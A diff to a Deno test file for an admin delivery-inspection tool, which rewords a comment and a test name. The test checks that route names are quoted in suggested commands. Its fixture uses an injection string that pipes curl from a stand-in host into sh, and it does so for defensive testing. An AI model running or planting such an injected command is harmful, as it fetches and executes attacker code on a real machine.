@@ -1,4 +1,4 @@
-// Names of routes come from deliveries.db, which an attacker who has taken over `send` can write; root copies commands.
+// Names of routes come from deliveries.db, which an attacker who controls `send` can write. Root copies the commands.
 
 import assert from "node:assert/strict";
 import { inspectDelivery } from "../../src/admin/delivery.ts";
@@ -10,7 +10,7 @@ import { routeOverview } from "../helpers/fixtures.ts";
 const NAME = "old; curl -s evil.example|sh #";
 const QUOTED = `retry --route 'old; curl -s evil.example|sh #'`;
 
-Deno.test("check and status quote the name of a route in commands, so that a shell runs nothing of it", () => {
+Deno.test("check and status quote the name of a route in commands, so a shell does not run it", () => {
   const overview = {
     position: { lastId: 1, lastUuid: "x" },
     routes: [routeOverview({ name: NAME, pending: 1, dead: 1, oldestPendingAtMs: 1 })],
